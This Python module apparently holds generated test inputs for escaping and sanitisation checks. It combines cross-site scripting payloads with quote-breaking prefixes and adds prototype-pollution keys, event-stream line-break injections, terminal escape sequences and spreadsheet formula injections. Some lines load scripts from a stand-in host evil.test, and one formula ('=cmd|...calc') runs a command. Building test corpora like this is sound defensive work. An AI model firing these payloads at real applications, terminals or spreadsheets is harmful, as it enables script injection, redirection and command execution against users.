"""Words that would do something if anything took them for more than words.

Made up from parts, so that each way to run a script meets each way out of a quotation. What runs
sets `window.pwned`, or asks another host, or opens a dialog.
"""

from itertools import product

RUN = "window.pwned=1"

_WAYS_OUT = ["", "'>", '">', "'\">", "</td>", "</title>", "</textarea>", "-->", "]]>", '\\">', "`>"]
_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<marquee onstart={RUN}>",
    f"<style onload={RUN}></style>",
    f"<x tabindex=1 autofocus onfocus={RUN}>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<base href=http://evil.test/>",
    "<script src=http://evil.test/x.js></script>",
    "<style>@import'http://evil.test/x.css';*{display:none}</style>",
    "<img src=http://evil.test/x.png>",
    "<template><b>x</b></template>",
    "<!--",
    "<plaintext>",
]
_SCRIPTS = [
    f"';{RUN};'",
    f'";{RUN};"',
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}",
    f"<%={RUN}%>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"expression({RUN})",
    f"url(javascript:{RUN})",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img\u000bsrc=x\u000conerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    "&amp;&lt;&gt;&quot;&#39;&nbsp;",
    "&copy &notit; &#x26; &#0;",
]
MARKUP = [out + element for out, element in product(_WAYS_OUT, _ELEMENTS)] + _SCRIPTS

PROTOTYPES = [
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then"),
    *("__defineGetter__", "__lookupSetter__", "isPrototypeOf", "toJSON", "length", "name", "size"),
    *("null", "undefined", "NaN", "true", "Infinity", "series", "replace", "x", "y", "values"),
]

EVENT_ENDS = [
    "a\nb",
    "a\r\nb",
    "a\rb",
    "a\n\nevent: bye\ndata: {}\n\nb",
    "a\r\revent: bye\rdata: {}\r\rb",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "a\x0bb\x0cc",
    "a\x00b",
    "\nid: x\n",
    "\ndata: x",
    ":",
    "retry: 1",
]

STEERING = [
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.test\x1b\\link",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1bc",
    "\x9b31m",
    "\x9d0;t\x9c",
    "\x90q\x9c",
    "\x08\x08\x08rubbed out",
    "\rover",
    "\x07bell",
    "\x7f\x7f",
    "\x0e\x0f",
    "\x05",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200f\u061c",
    "\u2028new\u2029",
]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.test")',
    '"=1',
    "=1,=2",
    "\uff1d1",
    "a\u201db",
]
